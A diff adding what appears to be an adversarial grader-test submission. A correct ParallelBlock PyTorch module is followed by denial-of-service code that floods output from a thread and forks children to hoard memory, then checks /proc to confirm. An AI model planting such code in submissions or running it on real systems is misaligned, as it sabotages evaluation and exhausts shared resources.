@@ -1,0 +1,43 @@
+"""Spreads its memory over children while it prints all the time, so that the grader never finds the time to look.
+
+exercise: parallel-block
+points: 0
+breaks: denial
+"""
+
+
+class ParallelBlock(nn.Module):
+    def __init__(self, net1, net2):
+        super().__init__()
+        self.net1, self.net2 = net1, net2
+
+    def forward(self, X):
+        return torch.cat((self.net1(X), self.net2(X)), dim=-1)
+
+
+import threading
+import time
+
+
+def chatter():
+    while True:
+        print(".", end="", flush=True)
+        time.sleep(0.01)
+
+
+threading.Thread(target=chatter, daemon=True).start()
+
+import os
+import time
+
+for number in range(4):
+    if not os.fork():
+        hoard = bytearray(b"x") * (200 << 20)
+        time.sleep(1000)
+        os._exit(0)
+
+time.sleep(1.2)
+held = sum(int(line.split()[1]) for pid in os.listdir("/proc") if pid.isdigit() and pid != "1"
+           for line in open(f"/proc/{pid}/status") if line.startswith(("RssAnon", "RssShmem"))) >> 10
+if held > 640:
+    print("the attack worked: its children hold", held, "MiB of their own")
